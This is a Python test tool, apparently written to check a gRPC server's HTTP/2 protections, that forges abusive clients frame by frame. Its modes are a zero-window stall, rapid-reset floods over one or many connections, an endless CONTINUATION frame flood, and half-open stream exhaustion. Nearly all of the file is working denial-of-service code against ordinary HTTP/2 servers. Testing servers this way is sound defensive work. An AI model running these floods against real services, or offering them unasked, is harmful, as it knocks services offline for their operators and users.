"""abuse_h2.py -- abusive HTTP/2 clients, forged frame by frame (python3-h2).

usage:
  abuse_h2.py stall ADDR N PROJECT SERVICE SECS
      One connection that announces an initial stream window of 0 (it never
      reads a byte of any answer) and opens N QueryServiceLogs streams as
      fast as the server's stream limit lets it; prints "opened K" once it
      has opened what it can, "settled E" once the server has been silent
      for a second (E streams ended so far: answers that need no window,
      such as errors), then holds everything for SECS seconds more and
      prints "reset K": the streams the server ended in all.
  abuse_h2.py reset ADDR N PROJECT SERVICE [HOLD [whole]]
      N x (HEADERS + DATA + RST_STREAM) as fast as the socket takes them;
      prints "sent N", keeps the connection open HOLD seconds more (1),
      prints "closing" and closes it. With "whole" the DATA ends the
      stream (a whole request) before the reset. When the server aborts
      the connection it prints "aborted by the server after K streams".
  abuse_h2.py resetmany ADDR C N PROJECT SERVICE
      The reset flood spread over C connections, N streams (cut short)
      on each, one connection after the other; holds them 2 s and prints
      "sent C x N, A aborted" (A: connections the server aborted).
  abuse_h2.py continuation ADDR SECS
      HEADERS without END_HEADERS, then empty CONTINUATION frames for
      SECS seconds or until the server closes the connection; prints
      "closed after S s" or "open after S s", and the frame count.
  abuse_h2.py halfopen ADDR N SECS
      N streams with HEADERS only (no request message, no end of stream),
      held SECS seconds, then the connection is closed; prints "opened K".
"""
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

sys.path.insert(0, __file__.rsplit("/", 1)[0])
from wire import request  # noqa: E402

PATH = "/modelarts.v1.ServiceLogs/QueryServiceLogs"


def connect(addr, window=None):
    host, port = addr.rsplit(":", 1)
    s = socket.create_connection((host, int(port)))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    c = h2.connection.H2Connection(h2.config.H2Configuration(
        client_side=True, header_encoding="utf-8"))
    c.initiate_connection()
    if window is not None:
        c.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE:
                           window})
    s.sendall(c.data_to_send())
    return s, c


def pump(s, c, timeout):
    """Reads what the server sent for up to timeout seconds; returns the
    events (h2 acknowledges SETTINGS and PINGs by itself)."""
    events = []
    end = time.monotonic() + timeout
    while True:
        left = end - time.monotonic()
        if left <= 0:
            break
        r, _, _ = select.select([s], [], [], left)
        if not r:
            break
        data = s.recv(65536)
        if not data:
            events.append("closed")
            break
        events.extend(c.receive_data(data))
        out = c.data_to_send()
        if out:
            s.sendall(out)
        if timeout == 0:
            break
    return events


def headers(addr):
    return [(":method", "POST"), (":scheme", "http"), (":path", PATH),
            (":authority", addr), ("content-type", "application/grpc"),
            ("te", "trailers")]


def grpc_frame(msg):
    return b"\x00" + len(msg).to_bytes(4, "big") + msg


def open_streams(s, c, addr, n, body):
    """Opens up to n streams, as many as the server's limit lets through,
    each with body as its request (None: HEADERS only); returns how many."""
    opened = 0
    for _ in range(n):
        sid = c.get_next_available_stream_id()
        try:
            c.send_headers(sid, headers(addr))
        except h2.exceptions.TooManyStreamsError:
            break
        if body is not None:
            c.send_data(sid, body, end_stream=True)
        opened += 1
        if body is not None or opened % 100 == 0:
            s.sendall(c.data_to_send())
            pump(s, c, 0)
    s.sendall(c.data_to_send())
    return opened


def stall(addr, n, project, service, secs):
    s, c = connect(addr, window=0)
    pump(s, c, 0.5)  # the server's SETTINGS: its stream limit
    opened = open_streams(s, c, addr, n, grpc_frame(request(project, service)))
    print("opened %d" % opened, flush=True)
    # Settled: a second with nothing from the server, which has then done
    # all it will with the streams (answered what it could; the rest wait
    # in the zero window). The hold of SECS counts from there.
    ended, last = 0, time.monotonic()
    settled_at = None
    while True:
        now = time.monotonic()
        if settled_at is None and now - last >= 1.0:
            settled_at = now
            print("settled %d" % ended, flush=True)
        if settled_at is not None and now - settled_at >= secs:
            break
        evs = pump(s, c, 0.2)
        for ev in evs:
            if isinstance(ev, (h2.events.StreamReset, h2.events.StreamEnded)):
                ended += 1
            if ev == "closed":
                secs = 0
        if evs:
            last = time.monotonic()
    print("reset %d" % ended, flush=True)
    s.close()


def reset(addr, n, project, service, hold, whole):
    s, c = connect(addr)
    pump(s, c, 0.5)
    body = grpc_frame(request(project, service))
    i = 0
    try:
        for i in range(n):
            sid = c.get_next_available_stream_id()
            c.send_headers(sid, headers(addr))
            c.send_data(sid, body, end_stream=whole)
            c.reset_stream(sid)
            if i % 100 == 99:
                s.sendall(c.data_to_send())
                pump(s, c, 0)
        s.sendall(c.data_to_send())
        print("sent %d" % n, flush=True)
        if "closed" in pump(s, c, hold):
            raise ConnectionResetError
    except (ConnectionResetError, BrokenPipeError):
        # the server aborted the connection (--max-connection-resets)
        print("aborted by the server after %d streams" % (i + 1), flush=True)
        s.close()
        return
    print("closing", flush=True)
    s.close()


def resetmany(addr, nconn, n, project, service):
    conns = [connect(addr) for _ in range(nconn)]
    for s, c in conns:
        pump(s, c, 0.05)
    body = grpc_frame(request(project, service))
    aborted = 0
    for s, c in conns:
        try:
            for _ in range(n):
                sid = c.get_next_available_stream_id()
                c.send_headers(sid, headers(addr))
                c.send_data(sid, body)
                c.reset_stream(sid)
            s.sendall(c.data_to_send())
        except (ConnectionResetError, BrokenPipeError):
            aborted += 1
    time.sleep(2)
    for s, c in conns:
        try:
            if "closed" in pump(s, c, 0):
                aborted += 1
        except OSError:
            aborted += 1
        s.close()
    print("sent %d x %d, %d aborted" % (nconn, n, aborted), flush=True)


def halfopen(addr, n, secs):
    s, c = connect(addr)
    pump(s, c, 0.5)
    print("opened %d" % open_streams(s, c, addr, n, None), flush=True)
    pump(s, c, secs)
    s.close()


def continuation(addr, secs):
    import hpack
    import hyperframe.frame as hf
    s, c = connect(addr)
    pump(s, c, 0.5)
    block = hpack.Encoder().encode(headers(addr))
    h = hf.HeadersFrame(1, block)  # no END_HEADERS: CONTINUATION follows
    s.sendall(h.serialize())
    empty = hf.ContinuationFrame(1).serialize()
    t0 = time.monotonic()
    sent = 0
    closed = False
    s.setblocking(False)
    while time.monotonic() - t0 < secs and not closed:
        try:
            s.send(empty * 64)
            sent += 64
        except BlockingIOError:
            select.select([s], [s], [], 0.05)
        except OSError:
            closed = True
            break
        try:
            if s.recv(65536) == b"":
                closed = True
        except BlockingIOError:
            pass
        except OSError:
            closed = True
    print("%s after %.1f s, %d frames" % ("closed" if closed else "open",
                                         time.monotonic() - t0, sent))
    s.close()


def main():
    mode, a = sys.argv[1], sys.argv[2:]
    if mode == "stall":
        stall(a[0], int(a[1]), a[2], a[3], float(a[4]))
    elif mode == "reset":
        reset(a[0], int(a[1]), a[2], a[3], float(a[4]) if len(a) > 4 else 1.0,
              len(a) > 5 and a[5] == "whole")
    elif mode == "resetmany":
        resetmany(a[0], int(a[1]), int(a[2]), a[3], a[4])
    elif mode == "continuation":
        continuation(a[0], float(a[1]))
    elif mode == "halfopen":
        halfopen(a[0], int(a[1]), float(a[2]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
